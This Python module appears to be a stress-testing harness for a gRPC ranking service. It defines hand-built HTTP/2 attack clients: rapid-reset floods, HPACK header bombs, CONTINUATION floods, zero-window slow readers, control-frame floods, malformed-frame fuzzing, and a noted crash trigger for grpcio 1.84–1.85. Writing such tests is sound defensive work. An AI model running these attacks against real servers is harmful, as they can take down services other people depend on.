"""Clients that do what no gRPC library would do: HTTP/2 written by hand, broken, flooding, or never read.

Each attack opens connections of its own, does its worst once and returns; the server may end the connection at any moment, and
usually does. ATTACKS has them all by name.
"""

import asyncio
import contextlib
import random
import socket
import struct
from collections.abc import AsyncIterator, Awaitable, Callable

from pars.v1 import ranker_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
MAX_FRAME_BYTES = 16_384
NO_WINDOW = struct.pack(">HI", 4, 0)
"""The setting INITIAL_WINDOW_SIZE, 0: the server may not send a byte of any reply."""

SCORE = "/pars.v1.RankerService/Score"
SCORE_STREAM = "/pars.v1.RankerService/ScoreStream"
WATCH = "/grpc.health.v1.Health/Watch"

HELD_S = 0.5
"""How long an attack that only holds something holds it."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", *, length: int | None = None) -> bytes:
    """One HTTP/2 frame; length is what it claims, when that shall be a lie."""
    return (
        struct.pack(">I", len(payload) if length is None else length)[1:] + struct.pack(">BBI", kind, flags, stream) + payload
    )


def literal(name: str, value: str) -> bytes:
    """One header in HPACK, neither compressed nor remembered."""
    return b"\0" + _hpack_text(name) + _hpack_text(value)


def _hpack_text(text: str) -> bytes:
    content, length = text.encode("latin-1"), b""
    if len(content) < 127:
        return bytes([len(content)]) + content
    rest = len(content) - 127
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return b"\x7f" + length + bytes([rest]) + content


def call_headers(path: str, **more: str) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "content-type": "application/grpc"}
    named = {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(literal(name, value) for name, value in (fields | {"te": "trailers"} | named).items())


def opened(stream: int, path: str, **more: str) -> bytes:
    """A call's headers; its messages may follow."""
    return frame(HEADERS, END_HEADERS, stream, call_headers(path, **more))


def sent(stream: int, message: bytes, *, end: bool = True, length: int | None = None) -> bytes:
    """One message of a call, of at most a frame; length is what its prefix claims."""
    content = b"\0" + struct.pack(">I", len(message) if length is None else length) + message
    return frame(DATA, END_STREAM if end else 0, stream, content)


REQUEST = ranker_pb2.ScoreRequest(prompts=["long short"] * 8).SerializeToString()
ITEM = ranker_pb2.ScoreStreamRequest(id=1, request=ranker_pb2.ScoreRequest(prompts=["long"])).SerializeToString()


class Line:
    """A raw connection. Writing gives up when the server takes nothing more; reading is left to whoever wants to."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    async def say(self, *contents: bytes) -> None:
        for content in contents:
            self.writer.write(content)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.writer.drain(), HELD_S)

    async def greet(self, settings: bytes = b"") -> None:
        await self.say(PREFACE, frame(SETTINGS, 0, 0, settings))

    def read_nothing(self) -> None:
        """From now on what the server sends fills the buffers on the way and stays there."""
        self.writer.transport.pause_reading()  # type: ignore[attr-defined]

    async def until_cut_off(self, seconds: float = HELD_S) -> None:
        """Wait until the server ends the connection, or until that much time has passed."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while await self.reader.read(65_536):
                    pass

    def hang_up(self) -> None:
        """Reset the connection: whatever is under way in it is lost."""
        raw = self.writer.get_extra_info("socket")
        if raw.family != socket.AF_UNIX:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.writer.transport.abort()


class Target:
    """Where the attacks go: `host:port` or `unix:/path`."""

    def __init__(self, address: str) -> None:
        self._address = address
        self.chance = random.Random(1)

    @contextlib.asynccontextmanager
    async def line(self) -> AsyncIterator[Line]:
        """A connection, which is gone afterwards. What the server does to it ends the attack and is no error."""
        async with self.lines(1) as (line,):
            yield line

    @contextlib.asynccontextmanager
    async def lines(self, count: int) -> AsyncIterator[list[Line]]:
        """Many of them. Raises OSError where nobody listens any more, after the first perhaps."""
        lines: list[Line] = []
        try:
            for _ in range(count):
                lines.append(await self._connected())
            with contextlib.suppress(ConnectionError):
                yield lines
        finally:
            for line in lines:
                line.writer.transport.abort()

    async def _connected(self) -> Line:
        if self._address.startswith("unix:"):
            return Line(*await asyncio.open_unix_connection(self._address.removeprefix("unix:")))
        host, _, port = self._address.rpartition(":")
        return Line(*await asyncio.open_connection(host, int(port)))


Attack = Callable[[Target], Awaitable[None]]


async def half_open(target: Target) -> None:
    """Connections that say nothing, half a preface, or a preface and then nothing."""
    async with target.lines(60) as lines:
        for index, line in enumerate(lines):
            await line.say((b"", PREFACE[:12], PREFACE)[index % 3])
        await asyncio.sleep(HELD_S)


async def junk(target: Target) -> None:
    """Bytes that are no HTTP/2, and HTTP/2 that breaks its own rules."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + target.chance.randbytes(500)
    settings = PREFACE + frame(SETTINGS, 0, 0)
    for content in (
        target.chance.randbytes(4_096),
        hello,
        b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\0" * 10_000,
        PREFACE + frame(DATA, 0, 0, b"x"),
        settings + frame(HEADERS, END_HEADERS, 1, b"", length=0xFFFFFF),
        settings + frame(HEADERS, END_HEADERS, 1, b"\xff" * 50),
        settings + frame(HEADERS, END_HEADERS, 1, b"\x3f\xff\xff\xff\xff\xff\xff\xff\xff"),
        settings + frame(HEADERS, END_HEADERS, 2, call_headers(SCORE)),
        settings + frame(CONTINUATION, END_HEADERS, 1, call_headers(SCORE)),
        settings + frame(DATA, END_STREAM, 7, b"x"),
        settings + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)),
        settings + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 3,
        settings + frame(SETTINGS, 0, 0, b"x"),
        settings + frame(SETTINGS, 0, 0, struct.pack(">HI", 5, 1)),
        settings + frame(PING, 0, 0, b"short"),
        settings + frame(RST_STREAM, 0, 1, b"\0\0\0\x08"),
        settings + frame(0xEE, 0xFF, 1, b"unknown"),
        settings + opened(1, SCORE, grpc_timeout="-1S") + sent(1, REQUEST),
        settings + opened(1, SCORE, grpc_timeout="99999999H") + sent(1, REQUEST),
        settings + opened(1, SCORE, grpc_encoding="gzip") + frame(DATA, END_STREAM, 1, b"\x01\0\0\0\x04junk"),
        settings + opened(1, SCORE, content_type="text/html") + sent(1, REQUEST),
        settings + opened(1, "not/a/path") + sent(1, REQUEST),
        # Not UTF-8: in grpcio 1.84 and 1.85 the first of these ends the server.
        settings + opened(1, SCORE + "\xd5") + sent(1, REQUEST),
        settings + opened(1, SCORE, authorization="\xd5") + sent(1, REQUEST),
    ):
        async with target.line() as line:
            await line.say(content)
            await line.until_cut_off(0.05)


async def mutated(target: Target) -> None:
    """A good call with some of its bytes changed, a new one on every connection."""
    good = PREFACE + frame(SETTINGS, 0, 0) + opened(1, SCORE) + sent(1, REQUEST) + opened(3, SCORE_STREAM) + sent(3, ITEM)
    for _ in range(20):
        bad = bytearray(good)
        for _ in range(target.chance.randint(1, 6)):
            bad[target.chance.randrange(len(PREFACE), len(bad))] = target.chance.randrange(256)
        async with target.line() as line:
            await line.say(bytes(bad))
            await line.until_cut_off(0.02)


async def slow_readers(target: Target) -> None:
    """Calls and streams of clients that let the server send nothing, and read nothing either."""
    async with target.lines(8) as lines:
        for line in lines:
            line.read_nothing()
            await line.greet(NO_WINDOW)
            calls = [opened(stream, SCORE) + sent(stream, REQUEST) for stream in range(1, 60, 2)]
            stream = opened(61, SCORE_STREAM) + sent(61, ITEM, end=False) * 200
            await line.say(*calls, stream, opened(63, WATCH) + sent(63, b""))
        await asyncio.sleep(HELD_S)


async def hang_ups(target: Target) -> None:
    """Resets at every stage of a call: in its headers, after them, in its message, after it, and in the middle of a stream."""
    for content in (
        opened(1, SCORE)[:20],
        opened(1, SCORE),
        opened(1, SCORE) + sent(1, REQUEST)[:30],
        opened(1, SCORE) + sent(1, REQUEST),
        opened(1, SCORE_STREAM) + sent(1, ITEM, end=False) * 50,
        opened(1, SCORE_STREAM) + sent(1, ITEM, end=False) * 3 + sent(1, ITEM)[:12],
    ):
        for wait_s in (0.0, 0.002):
            async with target.line() as line:
                await line.greet()
                await line.say(content)
                await asyncio.sleep(wait_s)
                line.hang_up()


async def rapid_reset(target: Target) -> None:
    """Calls that are taken back as soon as they are made, hundreds on one connection."""
    async with target.line() as line:
        await line.greet()
        for stream in range(1, 600, 2):
            taken_back = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            await line.say(opened(stream, SCORE) + sent(stream, REQUEST) + taken_back)
        await line.until_cut_off()


async def open_streams(target: Target) -> None:
    """As many calls as the server lets be opened, and more, none of which ever sends its message."""
    async with target.line() as line:
        await line.greet()
        for first in range(1, 3_000, 200):
            await line.say(b"".join(opened(stream, SCORE_STREAM) for stream in range(first, first + 200, 2)))
        await line.until_cut_off()


async def floods_of_control_frames(target: Target) -> None:
    """Pings, settings, priorities, empty data: frames that cost the server an answer or a thought each. Nothing is read."""
    pings = frame(PING, 0, 0, b"8 bytes.") * 500
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500
    priorities = b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 1_000, 2))
    empty = opened(1, SCORE_STREAM) + frame(DATA, 0, 1) * 500
    updates = opened(1, SCORE_STREAM) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 500
    for content in (pings, settings, priorities, empty, updates):
        async with target.line() as line:
            line.read_nothing()
            await line.greet()
            await line.say(content)
            await asyncio.sleep(0.05)


async def floods_of_headers(target: Target) -> None:
    """A megabyte of headers in one call, headers that never end, and a small block that unpacks into a large one."""
    many = b"".join(literal(f"x-{n}", "v" * 4_000) for n in range(250))
    parts = [many[at : at + MAX_FRAME_BYTES] for at in range(0, len(many), MAX_FRAME_BYTES)]
    endless = [frame(HEADERS, 0, 1, call_headers(SCORE)), *[frame(CONTINUATION, 0, 1, part) for part in parts]]
    # Remembered once, 4,000 bytes long, then named by its index, one byte each.
    bomb = call_headers(SCORE) + b"\x40" + _hpack_text("x") + _hpack_text("v" * 4_000) + b"\xbe" * 10_000
    for content in (
        b"".join([*endless, frame(CONTINUATION, END_HEADERS, 1), sent(1, REQUEST)]),
        b"".join(endless * 3),
        frame(HEADERS, 0, 1, call_headers(SCORE)) + frame(CONTINUATION, 0, 1) * 1_000,
        frame(HEADERS, END_HEADERS, 1, bomb) + sent(1, REQUEST),
    ):
        async with target.line() as line:
            await line.greet()
            await line.say(content)
            await line.until_cut_off(0.1)


async def huge_messages(target: Target) -> None:
    """Messages that claim to be four gigabytes or just too large, and arrive a little at a time, many at once."""
    async with target.line() as line:
        await line.greet()
        for index, length in enumerate((0xFFFFFFFF, 0x7FFFFFFF, 5 * 1024 * 1024, 4 * 1024 * 1024) * 20):
            stream = 2 * index + 1
            await line.say(opened(stream, SCORE) + sent(stream, b"x" * 1_000, end=False, length=length))
        await line.until_cut_off()


async def watchers(target: Target) -> None:
    """Health watches and reflection streams that nobody will ever read, a connection for each dozen."""
    async with target.lines(10) as lines:
        for line in lines:
            await line.greet()
            for stream in range(1, 24, 2):
                await line.say(opened(stream, WATCH) + sent(stream, b""))
            await line.say(
                opened(25, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo") + sent(25, b"\x3a\0", end=False)
            )
            line.read_nothing()
        await asyncio.sleep(HELD_S)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(half_open, junk, mutated, slow_readers, hang_ups, rapid_reset, open_streams),
        *(floods_of_control_frames, floods_of_headers, huge_messages, watchers),
    )
}
